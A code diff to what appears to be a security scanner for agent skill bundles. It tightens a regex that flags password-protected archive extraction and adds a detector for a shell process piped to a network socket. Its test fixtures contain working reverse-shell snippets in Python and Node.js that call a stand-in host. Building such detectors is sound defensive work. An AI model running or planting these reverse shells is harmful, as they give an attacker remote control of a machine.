@@ -117,7 +117,7 @@ export const US003 = patternCheck({
     why: 'Malware is shipped in password-protected archives precisely so scanners cannot look inside; legitimate skills have no reason to.',
     fix: 'Ship files in the skill bundle in the clear, or fetch them from a package registry.',
   },
-  re: /\bunzip\b[^\n]{0,80}[ \t]-P[ \t]*\S+|\b7za?\b[^\n]{0,80}[ \t]x\b[^\n]{0,80}[ \t]-p\S+|\bunrar\b[^\n]{0,40}[ \t]-p\S+|\b(?:zip|rar|7z|archive|extract\w*|unpack|unzip)\b[^\n]{0,120}\b(?:password|passcode|passphrase|pass|pwd)\b[ \t]*(?:is|:|=)[ \t]*[`"'*]*[A-Za-z0-9!@#$%^&_-]{3,}|\b(?:password|passcode|passphrase)\b[ \t]*(?:is|:|=)[ \t]*[`"'*]*[A-Za-z0-9!@#$%^&_-]{3,}[`"'*]*[^\n]{0,80}\b(?:zip|rar|7z|archive|extract)/gi,
+  re: /\bunzip\b[^\n]{0,80}[ \t]-P[ \t]*\S+|\b7za?\b[^\n]{0,80}[ \t]x\b[^\n]{0,80}[ \t]-p\S+|\bunrar\b[^\n]{0,40}[ \t]-p\S+|\b(?:zip|rar|7z|archive|extract\w*|unpack|unzip)\b[^\n]{0,120}\b(?:password|passcode|passphrase|pass|pwd)\b[ \t]*(?:is|:|=)[ \t]*[`"'*]{0,3}[A-Za-z0-9!@#$%^&_-]{3}|\b(?:password|passcode|passphrase)\b[ \t]*(?:is|:|=)[ \t]*[`"'*]{0,3}(?=([A-Za-z0-9!@#$%^&_-]{3,64}))\1[`"'*]{0,3}[^\n]{0,80}\b(?:zip|rar|7z|archive|extract)/gi,
   match: SHELL_TEXT,
   build: (m) =>
     /(?:password|pass|pwd)[ \t]*(?:is|:|=)[ \t]*[`"'*]*(?:your|<|\$|\{|x{3})/i.test(m[0]) ? null : {},
@@ -203,6 +203,15 @@ export const US006 = defineCheck({
         out.push(
           hitAt(u, u.text.indexOf('os.dup2('), { message: 'socket connected to stdin/stdout (os.dup2)' }),
         );
+      } else if (
+        (u.kind === 'script' || u.kind === 'code' || u.kind === 'decoded') &&
+        /\bnet\.(?:Socket|connect|createConnection)\b/.test(u.text) &&
+        /\bspawn\(\s*["'](?:\/bin\/(?:ba|z)?sh|cmd(?:\.exe)?|powershell)/.test(u.text) &&
+        /\.pipe\(/.test(u.text)
+      ) {
+        out.push(
+          hitAt(u, u.text.search(/\bspawn\(/), { message: 'shell process piped to a network socket' }),
+        );
       }
     }
     return out;
@@ -212,6 +221,10 @@ export const US006 = defineCheck({
     {
       'r.py':
         'import socket,os,pty\ns=socket.socket()\ns.connect(("h.example",9001))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\n',
+    },
+    {
+      'r.js':
+        'const net = require("net"), cp = require("child_process");\nconst sh = cp.spawn("/bin/sh", []);\nconst c = new net.Socket();\nc.connect(4444, "h.example", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n',
     },
   ],
   tn: [{ 'net.py': 'import socket\ns=socket.create_connection(("api.example.com",443))\ns.close()\n' }],
